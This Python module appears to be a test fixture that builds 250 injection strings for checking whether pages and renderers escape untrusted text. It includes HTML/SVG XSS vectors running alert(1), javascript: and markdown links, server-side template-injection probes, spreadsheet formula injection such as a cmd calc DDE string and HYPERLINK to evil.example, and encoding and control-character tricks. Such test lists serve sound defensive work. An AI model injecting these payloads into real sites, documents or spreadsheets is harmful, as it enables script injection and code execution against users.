"""Two hundred texts that would run, open or inject something in a page that does not escape; and
more, for pages that are not HTML, or are read by something else than a browser."""

from __future__ import annotations

from itertools import product

BREAKS = ("", '">', "'>", "</pre>", "</script>", "-->", "</title></head>", "]]>")
VECTORS = (
    "<script>{run}</script>",
    "<img src=x pwned onerror={run}>",
    "<svg pwned onload={run}>",
    "<svg><script pwned>{run}</script></svg>",
    "<body pwned onload={run}>",
    "<iframe pwned srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe pwned src=javascript:{run}></iframe>",
    "<a pwned href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<input pwned autofocus onfocus={run}>",
    "<details pwned open ontoggle={run}>",
    "<video pwned><source onerror={run}></video>",
    "<math pwned><mtext></p><img src=x onerror={run}>",
    "<object pwned data=javascript:{run}></object>",
    "<embed pwned src=javascript:{run}>",
    "<meta pwned http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link pwned rel=stylesheet href=data:text/css,*{{color:red}}>",
    "<style pwned>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={run}>",
    "<form pwned action=javascript:{run}><button autofocus onfocus={run}>x</button></form>",
    "<base pwned href=javascript:{run}//>",
    "<template pwned><script>{run}</script></template>",
    "' onmouseover={run} pwned x='",
    '" onfocus={run} autofocus pwned x="',
    "{{{{ self.__init__.__globals__ }}}}{{% raw %}}<u pwned>",
    "&lt;img src=x pwned onerror={run}&gt;<i pwned>",
    "\u202e\x1b[31m\u2028<s pwned>\ufeff%3Cscript%3E{run}%3C/script%3E",
)
RUN = "(window.ran=(window.ran||0)+1,alert(1))"
PAYLOADS = [start + vector.format(run=RUN) for vector, start in product(VECTORS, BREAKS)]
assert len(set(PAYLOADS)) == 200

MORE = [
    "[x](javascript:alert(1) 'pwned')",
    "![x](https://evil.example/pwned.png)",
    "<https://evil.example/pwned>",
    "[pwned]: javascript:alert(1)\n[pwned]",
    "| a | b |\n|---|---|\n| <b pwned> | c |",
    "```\n</code></pre><i pwned>\n```",
    "`` ` ``<i pwned>`",
    "# pwned\n\n<i pwned>\n===",
    "* pwned\n  * <i pwned>",
    "> pwned <i pwned>",
    "$$\\href{javascript:alert(1)}{pwned}$$",
    "@pwned #1 https://evil.example www.evil.example GH-1",
    "<!-- pwned --!><img src=x pwned onerror=alert(1)>",
    "<!--><i pwned>",
    "<![CDATA[<i pwned>]]>",
    "<?xml version='1.0'?><i pwned>",
    "<svg xmlns='http://www.w3.org/2000/svg'><text pwned>&lt;</text></svg>",
    "</text></svg><i pwned>",
    "</title><i pwned>",
    "</style><i pwned>",
    "</textarea><i pwned>",
    "</template><i pwned>",
    "</noscript><i pwned>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}<i pwned>{% endfor %}",
    "${7*7}<%= 7*7 %>#{7*7}<i pwned>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<i pwned>",
    "%3Cscript%3Ealert(1)%3C/script%3E<i pwned>",
    "&#60;script&#62;alert(1)&#60;/script&#62;<i pwned>",
    "&lt;i pwned&gt;<i pwned>",
    "\\u003cscript\\u003e<i pwned>",
    "<i\x00 pwned>",
    "<\x00i pwned>",
    "<i\x0cpwned>",
    "<i/pwned>",
    "\u202e<i pwned>\u2066",
    "\u200b<i pwned>\ufeff",
    "\U000e0001\U000e0069<i pwned>",
    '=HYPERLINK("https://evil.example","<i pwned>")',
    "+cmd|' /C calc'!A0<i pwned>",
    "@SUM(1+1)*cmd<i pwned>",
    "\t=1+1<i pwned>",
    "javascript:alert(1)//pwned",
    "data:text/html,<i pwned>",
    "--><i pwned>",
    "'-alert(1)-'<i pwned>",
    '\\"-alert(1)//<i pwned>',
    "</script><script pwned>alert(1)</script>",
    "<i pwned style=background:url(javascript:alert(1))>",
    "---\nlibrary_name: pwned\n---\n<i pwned>",
    "x" * 20_000 + "<i pwned>",
]
assert len(set(MORE)) == 50
ALL = [*PAYLOADS, *MORE]
